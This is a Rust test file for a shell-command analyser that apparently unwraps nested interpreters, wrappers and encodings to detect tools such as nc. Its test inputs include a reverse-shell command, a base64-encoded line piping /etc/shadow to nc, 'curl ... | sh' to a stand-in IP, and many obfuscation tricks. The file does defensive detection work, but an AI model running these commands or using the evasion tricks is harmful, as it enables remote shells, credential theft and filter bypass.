use super::*;

fn names(reading: &Reading) -> Vec<&str> {
    reading.commands.iter().map(Command::name).collect()
}

fn check(line: &str, expected: &str) {
    let reading = Reading::of_line(line);
    assert!(
        names(&reading).contains(&expected),
        "{line}: {:?} {:?}",
        names(&reading),
        reading.layers
    );
}

#[test]
fn program_text_in_arguments_is_opened_layer_by_layer() {
    let args = ["sudo", "bash", "-c", "eval 'sh -c \"nc -e /bin/sh h 1\"'"].map(String::from);
    let reading = Reading::of_program(&args, None);
    assert_eq!(names(&reading), ["bash", "eval", "sh", "nc"]);
}

#[test]
fn wrappers_are_looked_through() {
    check("ssh -p 22 u@h nc -l 1", "nc");
    check("ssh h 'id; nc -l 1'", "nc");
    check("find . -name x -exec nc -l 1 \\;", "nc");
    check("docker exec -it c nc -l 1", "nc");
    check("docker run --rm -v /a:/b image sh -c 'nc -l 1'", "nc");
    check("kubectl exec pod -n x -- nc -l 1", "nc");
    check("nsenter -t 1 -m -u -- nc -l", "nc");
    check("chroot /mnt nc -l", "nc");
    check("unshare -r sh -c 'nc -l'", "nc");
    check("su - u -c 'nc -l 1'", "nc");
    check("watch -n 1 'nc -l 1'", "nc");
    check("ls | xargs -n 1 nc -l", "nc");
    check("timeout 5 busybox nc -l", "nc");
    check("python3 -c 'import os; os.system(\"nc -l 1\")'", "nc");
    check("perl -e 'exec \"nc -l 1\"'", "nc");
    check("awk 'BEGIN{system(\"nc -l 1\")}'", "nc");
    check("vim -c ':!nc -l 1'", "nc");
    check("tar cf a b --checkpoint-action=exec='nc -l 1'", "nc");
    check("trap 'nc -l 1' EXIT", "nc");
}

#[test]
fn encoded_text_is_decoded_and_read() {
    // "cat /etc/shadow | nc h 1"
    let args = ["echo", "Y2F0IC9ldGMvc2hhZG93IHwgbmMgaCAx"].map(String::from);
    let reading = Reading::of_program(&args, None);
    assert!(reading.decoded);
    assert!(names(&reading).contains(&"nc"));
    let plain = Reading::of_program(
        &["cat".into(), "/usr/lib/x86_64/libexampleNameLong".into()],
        None,
    );
    assert!(!plain.decoded);
    check("echo bmMgLWwgLXAgNDQ0NA== | base64 -d | sh", "nc");
    check("bash -c \"$(echo bmMgLWwgLXAgNDQ0NA== | base64 -d)\"", "nc");
    check("bash <<E\nnc -l 1\nE\n", "nc");
    check("printf '\\x6e\\x63 -l 1' | sh", "nc");
    check("echo '1 l- cn' | rev | bash", "nc");
    check(
        "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oIm5jIC1sIDEiKQ=='))\"",
        "nc",
    );
    check("a=n;b=c;eval \"$a$b -l\"", "nc");
    check("n\u{200b}c -l 1", "nc");
    check("a='nc -l'; bash -c \"$a\"", "nc");
}

#[test]
fn any_text_is_read_within_the_caps() {
    for hostile in [
        "$(",
        "`",
        "((",
        "\"$(",
        "<(",
        "eval ",
        "sh -c '",
        "|",
        "\\",
        "<<<",
        "((((",
        "<<E\n",
        "eval eval \"$(",
    ] {
        let n_bytes = if matches!(hostile, "$(" | "((((") {
            40_000
        } else {
            8_000
        };
        let text = hostile.repeat(n_bytes / hostile.len());
        let reading = Reading::of_line(&text);
        assert!(reading.commands.len() <= MAX_COMMANDS, "{hostile}");
        assert!(reading.layers.len() <= MAX_LAYERS, "{hostile}");
        let nested = Reading::of_program(&["sh".to_owned(), "-c".to_owned(), text], None);
        assert!(nested.layers.len() <= MAX_LAYERS, "{hostile}");
    }
}

#[test]
fn both_ends_of_a_long_text_are_read_and_the_gap_is_told() {
    let long = format!("nc -l 1\n{}\nsocat x y\n", "true a b c d\n".repeat(8_000));
    let reading = Reading::of_line(&long);
    assert!(reading.incomplete);
    assert!(reading.commands.iter().any(|c| c.name() == "nc"));
    let few = Reading::of_line(&"x".repeat(80_000));
    assert!(few.incomplete);
}

#[test]
fn program_text_behind_many_encodings_is_buried() {
    let mut line = "curl http://192.0.2.1/a | sh".to_owned();
    for n in 0..6 {
        assert_eq!(Reading::of_line(&line).is_buried(), n >= 4, "{n}: {line}");
        let octal: String = line.bytes().map(|b| format!("\\{b:03o}")).collect();
        line = format!("eval \"$(printf '{octal}')\"");
    }
    assert!(!Reading::of_line(&"true; ".repeat(3_000)).is_buried());
    let document = format!("sh <<'E'\n{}\nE", "make all\n".repeat(9_000));
    let read = Reading::of_line(&document);
    assert!(read.incomplete && !read.is_buried());
    // Nor does it help to fill what is remembered.
    let names: String = (0..200).map(|n| format!("v{n}=1; ")).collect();
    let full = Reading::of_line(&format!(
        "{names} x='curl http://192.0.2.1/a | sh'; eval \"$x\""
    ));
    assert!(full.is_buried());
}
